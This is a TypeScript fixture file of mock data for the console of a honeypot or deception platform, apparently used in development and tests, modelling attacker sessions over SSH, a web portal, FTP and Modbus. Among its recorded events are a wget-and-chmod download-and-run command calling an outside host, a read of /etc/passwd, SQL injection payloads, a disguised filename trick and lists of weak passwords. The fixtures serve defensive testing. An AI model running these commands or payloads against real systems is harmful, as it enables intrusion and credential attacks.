/** Fixed, realistic answers for development and the console's tests. Times hang on the moment the module is loaded. */
import { escapeText } from '@shenlou/contract/bytes'
import type { StoredEvent } from '@shenlou/contract/event'
import type { EventBody, EventKind } from '@shenlou/contract/event-kinds'
import type { Recording, SessionSummary } from '@shenlou/contract/records'
import { ovenAgo, ovenEvents } from './oven.ts'

export const now = Date.now()
export const minute = 60_000
export const hour = 60 * minute
export const day = 24 * hour

/** A well-formed UUID whose last digits are `n`. */
export const uuid = (group: number, n: number): string => `0195${group.toString(16).padStart(4, '0')}-7a00-7000-8000-${n.toString(16).padStart(12, '0')}`
export const sensors = { relay: uuid(1, 1), decoys: uuid(1, 2), far: uuid(1, 3), fresh: uuid(1, 4), ids: uuid(1, 5), near: uuid(1, 7) }
const epoch = uuid(2, 1)
export const scope = 'group/machinery/park-3'
export const hash = (seed: string): string => Buffer.from(seed.repeat(64)).toString('hex').slice(0, 64)

type Session = Pick<SessionSummary, 'decoy' | 'service' | 'source' | 'severity'> & Partial<SessionSummary>
const session = (n: number, from: number, length: number | null, over: Session): SessionSummary => ({
  id: uuid(3, n),
  sensor: sensors.decoys,
  scope,
  sourcePort: 40_000 + n * 7,
  destination: '10.31.0.21',
  destinationPort: over.service === 'ssh' ? 22 : 443,
  via: sensors.relay,
  proof: false,
  startedAt: now - from,
  lastAt: now - from + (length ?? from - 2000),
  endedAt: length === null ? null : now - from + length,
  live: length === null,
  adversary: `address ${over.source}`,
  user: null,
  client: null,
  hassh: null,
  loginAttempts: 0,
  loggedIn: false,
  commands: 0,
  requests: 0,
  files: 0,
  events: 20,
  bytesOut: 4096,
  lastAction: null,
  industrial: null,
  techniques: [],
  incident: null,
  ...over,
})

export const sessions: SessionSummary[] = [
  session(1, 9 * minute, null, {
    decoy: 'jump-01',
    service: 'ssh',
    source: '203.0.113.39',
    severity: 'critical',
    user: 'ops',
    client: 'SSH-2.0-OpenSSH_9.6',
    hassh: '8c1b7f2a6d3e4c5b9a0f1e2d3c4b5a69',
    loginAttempts: 14,
    loggedIn: true,
    commands: 9,
    files: 1,
    events: 64,
    bytesOut: 18_432,
    lastAction: 'wget http://198.51.100.7/x.sh -O /tmp/.x && chmod +x /tmp/.x',
    techniques: ['T1110.001', 'T1078', 'T1082', 'T1105', 'T1053.003'],
    incident: uuid(4, 1),
  }),
  session(2, 4 * minute, null, {
    decoy: 'portal-hq',
    service: 'portal',
    source: '198.51.100.23',
    severity: 'high',
    client: 'sqlmap/1.8.4#stable',
    requests: 132,
    events: 140,
    bytesOut: 911_203,
    lastAction: 'GET /search?q=%27%20OR%201=1--',
    techniques: ['T1190', 'T1595.002'],
    incident: uuid(4, 2),
  }),
  session(3, 52 * minute, 3 * minute, {
    decoy: 'nas-02',
    service: 'ssh',
    source: '203.0.113.39',
    severity: 'medium',
    user: 'root',
    client: 'SSH-2.0-libssh_0.9.6',
    loginAttempts: 212,
    events: 428,
    lastAction: 'root / admin123',
    techniques: ['T1110.001'],
    incident: uuid(4, 1),
  }),
  session(4, 3 * hour, 40_000, {
    decoy: 'portal-hq',
    service: 'portal',
    source: '192.0.2.66',
    severity: 'low',
    client: 'curl/8.5.0',
    requests: 3,
    lastAction: 'GET /robots.txt',
  }),
  session(5, 7 * hour, 12_000, {
    decoy: 'jump-01',
    service: 'ssh',
    source: '10.31.4.17',
    severity: 'info',
    client: 'SSH-2.0-Nmap-SSH2-Hostkey',
    lastAction: null,
  }),
  session(6, ovenAgo, null, {
    decoy: 'topcoat-oven',
    service: 'modbus',
    source: '198.51.100.77',
    severity: 'critical',
    destinationPort: 502,
    requests: 96,
    events: 166,
    lastAction: 'Read Input Registers: OV2.Z1.PV, OV2.Z2.PV, OV2.Z3.PV, +9',
    industrial: {
      ...{ protocol: 'modbus', reads: 90, writes: 4, commands: 0, refused: 1, changed: 4, consequences: 1 },
      plant: { id: 'paint', branched: true, at: now - 2000, values: { 'OV2.Z1.PV': 248.2, 'OV2.Z1.SP': 260 } },
    },
    techniques: ['T0801', 'T0831', 'T0836', 'T0838', 'T0848', 'T0888'],
  }),
  session(7, 30 * minute, 25_000, {
    decoy: 'topcoat-oven',
    service: 'ftp',
    source: '198.51.100.77',
    severity: 'high',
    destinationPort: 21,
    user: 'admin',
    loggedIn: true,
    loginAttempts: 1,
    commands: 3,
    files: 1,
    events: 8,
    lastAction: 'ftp > /project/oven.cxob',
    techniques: ['T0812', 'T0843'],
  }),
  ...Array.from({ length: 30 }, (_, i) =>
    session(10 + i, (8 + i) * hour, 20_000 + i * 900, {
      decoy: i % 3 ? 'nas-02' : 'jump-01',
      service: 'ssh',
      source: `203.0.113.${60 + i}`,
      severity: i % 5 === 0 ? 'medium' : 'low',
      user: 'root',
      loginAttempts: 3 + i,
      lastAction: `root / ${['123456', 'admin', 'P@ssw0rd', 'toor', 'qwerty'][i % 5]}`,
      techniques: ['T1110.001'],
    }),
  ),
]

let position = 1000
/** A committed event of session `n`, `ago` ms before now. */
export function event<K extends EventKind>(kind: K, n: number, ago: number, body: EventBody<K>, over: Partial<StoredEvent> = {}): StoredEvent {
  const of = sessions.find((row) => row.id === uuid(3, n))
  position += 1
  return {
    id: uuid(5, position),
    time: now - ago,
    kind,
    body: body as Record<string, unknown>,
    position,
    received: now - ago + 18,
    sensor: sensors.decoys,
    epoch,
    seq: position,
    scope,
    connection: uuid(6, n),
    session: uuid(3, n),
    decoy: of?.decoy,
    service: of?.service,
    source: { ip: of?.source ?? '203.0.113.9', port: of?.sourcePort ?? 5555 },
    destination: { ip: of?.destination ?? '10.31.0.21', port: of?.destinationPort ?? 22 },
    via: { relay: sensors.relay, address: '10.31.8.40', port: 22 },
    ...over,
  }
}
const typed = (n: number, ago: number, input: string, exitCode = 0): StoredEvent[] => [
  event('command.executed', n, ago, { mode: 'shell', input: escapeText(input), user: 'ops', directory: '/home/ops' }),
  event('command.finished', n, ago - 200, { exitCode, durationMs: 180 }),
]
const shown = (n: number, ago: number, text: string): StoredEvent =>
  event('terminal.data', n, ago, { stream: 'output', data: Buffer.from(text).toString('base64') })
const prompt = '\x1b[1;32mops@jump-01\x1b[0m:\x1b[1;34m~\x1b[0m$ '
const file = { sha256: hash('a'), size: 48_213, truncated: false }

const terminal: StoredEvent[] = [
  event('terminal.opened', 1, 8.5 * minute, { term: 'xterm-256color', columns: 100, rows: 30 }),
  shown(1, 8.4 * minute, `Last login: Sun Nov 22 09:14:02 2026 from 10.31.4.8\r\n${prompt}`),
  shown(1, 8 * minute, `uname -a\r\nLinux jump-01 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\r\n${prompt}`),
  shown(
    1,
    7 * minute,
    `cat /etc/passwd | head -4\r\nroot:x:0:0:root:/root:/bin/bash\r\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\r\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\r\nops:x:1000:1000:运维账号:/home/ops:/bin/bash\r\n${prompt}`,
  ),
  shown(1, 5 * minute, `sudo -l\r\n\x1b[31mSorry, user ops may not run sudo on jump-01.\x1b[0m\r\n${prompt}`),
  shown(
    1,
    3 * minute,
    `wget http://198.51.100.7/x.sh -O /tmp/.x && chmod +x /tmp/.x\r\n--2026-11-23 13:40:01--  http://198.51.100.7/x.sh\r\nConnecting to 198.51.100.7:80... failed: Connection timed out.\r\n${prompt}`,
  ),
  shown(1, minute, `crontab -l\r\nno crontab for ops\r\n${prompt}`),
]

/** Oldest first. */
export const events: StoredEvent[] = [
  ...Array.from({ length: 400 }, (_, i) =>
    event('login.attempted', i % 2 ? 3 : 10 + (i % 30), 20 * hour - i * 170_000, {
      method: 'password',
      user: ['root', 'admin', 'ops', 'oracle'][i % 4] as string,
      password: `${['123456', 'admin', 'P@ssw0rd', 'toor', 'qwerty'][i % 5]}${i}`,
      outcome: 'refused',
    }),
  ),
  event(
    'scan.detected',
    5,
    7 * hour,
    { type: 'port', addresses: ['10.31.8.40'], ports: [21, 22, 23, 80, 443, 445, 502, 3389], connections: 1204, silent: 1180, windowMs: 60_000 },
    { sensor: sensors.relay, session: undefined, decoy: undefined, service: undefined },
  ),
  event(
    'alert.received',
    1,
    2 * hour,
    {
      product: 'Suricata',
      format: 'suricata-eve',
      rule: '2001219',
      title: 'ET SCAN Potential SSH Scan',
      category: 'Attempted Information Leak',
      severity: 'medium',
      originalId: '1629038472910',
      originalTime: '2026-11-23T11:40:02.123456+0800',
      device: 'ids-park-3',
      techniques: ['T1595'],
      raw: '{"event_type":"alert","src_ip":"203.0.113.39","alert":{"signature_id":2001219,"signature":"ET SCAN Potential SSH Scan"}}',
    },
    { sensor: sensors.ids, session: undefined },
  ),
  event('session.opened', 1, 9 * minute, { adversary: 'address 203.0.113.39' }),
  event('ssh.negotiated', 1, 9 * minute - 200, {
    clientVersion: 'SSH-2.0-OpenSSH_9.6',
    hassh: '8c1b7f2a6d3e4c5b9a0f1e2d3c4b5a69',
    kex: ['curve25519-sha256', 'ecdh-sha2-nistp256'],
    hostKey: ['ssh-ed25519', 'rsa-sha2-512'],
    cipher: ['chacha20-poly1305@openssh.com', 'aes256-gcm@openssh.com'],
    mac: ['umac-128-etm@openssh.com'],
    compression: ['none'],
  }),
  ...['ops', 'Ops2024', 'jump123', 'Park3!ops'].map((password, i) =>
    event('login.attempted', 1, 8.9 * minute - i * 3000, {
      method: 'password',
      user: 'ops',
      password,
      outcome: i === 3 ? 'accepted' : 'refused',
      ...(i === 3 ? { by: 'lure' as const } : {}),
    }),
  ),
  ...terminal,
  ...typed(1, 8 * minute, 'uname -a'),
  ...typed(1, 7 * minute, 'cat /etc/passwd | head -4'),
  ...typed(1, 5 * minute, 'sudo -l', 1),
  ...typed(1, 3 * minute, 'wget http://198.51.100.7/x.sh -O /tmp/.x && chmod +x /tmp/.x', 4),
  event('download.requested', 1, 3 * minute, { tool: 'wget', url: 'http://198.51.100.7/x.sh' }),
  event('egress.refused', 1, 3 * minute - 5, { tool: 'wget', host: '198.51.100.7', port: 80 }),
  event('file.uploaded', 1, 2 * minute, { path: '/tmp/.x', method: 'scp', file }),
  ...typed(1, minute, 'crontab -l', 1),
  ...typed(1, 40_000, 'printf "\u202Egnp.exe\\n" > readme\x07.txt'),
  ...ovenEvents(event, 6),
  event('session.opened', 7, 30 * minute, { adversary: 'address 198.51.100.77' }),
  event('login.attempted', 7, 30 * minute - 2000, { method: 'ftp', user: 'admin', password: '111111', outcome: 'accepted', by: 'given' }),
  ...['LIST', 'RETR /history/trend.csv', 'STOR /project/oven.cxob'].map((input, i) =>
    event('command.executed', 7, 30 * minute - 5000 - i * 5000, { mode: 'ftp', input, user: 'admin', directory: '/' }),
  ),
  event('file.uploaded', 7, 30 * minute - 16_000, { path: '/project/oven.cxob', method: 'ftp', file }),
  event('session.opened', 2, 4 * minute, { adversary: 'address 198.51.100.23' }),
  event('tls.negotiated', 2, 4 * minute - 20, {
    version: 'TLSv1.3',
    cipher: 'TLS_AES_256_GCM_SHA384',
    serverName: 'portal.haishan-group.example',
    ja4: 't13d1516h2_8daaf6152771_b186095e22b6',
  }),
  ...['/', '/search?q=%27%20OR%201=1--&page=1', '/admin/', '/api/v1/user?id=1%20UNION%20SELECT%201,2,3', '/login'].map((target, i) =>
    event('http.exchanged', 2, 230_000 - i * 20_000, {
      secure: true,
      method: i === 4 ? 'POST' : 'GET',
      target,
      version: 'HTTP/1.1',
      headers: [
        ['Host', 'portal.haishan-group.example'],
        ['User-Agent', 'sqlmap/1.8.4#stable (https://sqlmap.org)'],
        ['Accept', '*/*'],
        ...(i === 4 ? [['Content-Type', 'application/x-www-form-urlencoded'] as [string, string], ['Content-Length', '46'] as [string, string]] : []),
      ],
      body: i === 4 ? 'username=admin&password=%27%20or%20%271%27%3D%271&next=%2F' : '',
      bodySize: i === 4 ? 46 : 0,
      status: [200, 200, 403, 404, 401][i] as number,
      responseHeaders: [
        ['Server', 'nginx/1.18.0'],
        ['Content-Type', 'text/html; charset=utf-8'],
        ['Connection', 'keep-alive'],
      ],
      responseSize: 8123,
      ...(i === 4
        ? { responseBody: '<!DOCTYPE html>\\x0a<html lang="zh-CN">\\x0a<body>\\x0a<p class="error">用户名或口令错误</p>\\x0a</body></html>\\x0a' }
        : { responseSha256: '9f2c'.repeat(16) }),
      durationMs: 14,
    }),
  ),
  event('protocol.violated', 2, 100_000, { reason: 'bad header', data: '\\x16\\x03\\x01\\x00\\xa5\\x01\\x00' }),
]

export const recording: Recording = {
  session: uuid(3, 1),
  startedAt: now - 9 * minute,
  columns: 100,
  rows: 30,
  durationMs: 8 * minute,
  cut: false,
  bytes: 2048,
  frames: terminal
    .filter((row) => row.kind === 'terminal.data')
    .map((row): Recording['frames'][number] => [row.time - (now - 9 * minute), 'o', (row.body as { data: string }).data]),
  marks: [
    {
      at: minute,
      technique: 'T1082',
      name: 'System Information Discovery',
      finding: uuid(7, 3),
      event: events.find((row) => row.kind === 'command.executed')?.id as string,
    },
    {
      at: 6 * minute,
      technique: 'T1105',
      name: 'Ingress Tool Transfer',
      finding: uuid(7, 2),
      event: events.find((row) => row.kind === 'download.requested')?.id as string,
    },
    { at: 8 * minute, technique: 'T1053.003', name: 'Cron', finding: uuid(7, 4), event: uuid(5, 1) },
  ],
}
